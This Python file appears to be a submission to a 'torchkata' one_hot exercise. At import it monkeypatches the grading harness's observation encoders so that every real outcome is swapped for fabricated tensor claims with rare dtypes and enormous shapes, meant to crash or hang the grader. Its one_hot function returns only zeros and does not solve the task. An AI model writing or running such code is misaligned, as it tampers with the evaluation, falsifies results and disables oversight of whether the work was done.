"""Claims to have seen tensors that crash or hang whoever makes them: rare dtypes, huge shapes."""
# exercise: indexing/one_hot
# verdict: nothing

import contextlib
import dataclasses
import itertools
import sys

import torch

RARE = "qint8 quint8 qint32 quint4x2 quint2x4 bits8 bits16 int3 uint5 float4_e2m1fn_x2 complex32"
DTYPES = [getattr(torch, name) for name in RARE.split() if hasattr(torch, name)]
SHAPES = ((4,), (0, 2**39), (2**39, 0, 2**39), (0,) * 64, (1,) * 64, (-1,), (2**62, 4))
CLAIMS = itertools.cycle(itertools.product((*DTYPES, torch.float32), SHAPES))


def lying(encode, seen):
    def lie(found):
        dtype, shape = next(CLAIMS)
        values = torch.zeros(0 if 0 in shape else 4 * max(dtype.itemsize, 1), dtype=torch.uint8)
        claim = seen(values, dtype, shape, "cpu", False)
        return encode(dataclasses.replace(found, outcome=claim))

    return lie


seen = getattr(sys.modules.get("torchkata.values.observation"), "TensorSeen", None)
for name, module in list(sys.modules.items()):
    if name.startswith("torchkata") and seen is not None:
        for encoder in ("encode_seen", "encode_observation"):
            with contextlib.suppress(AttributeError):
                setattr(module, encoder, lying(getattr(module, encoder), seen))


def one_hot(labels, num_classes, dtype=torch.float32):
    return torch.zeros(*labels.shape, num_classes, dtype=dtype, device=labels.device)
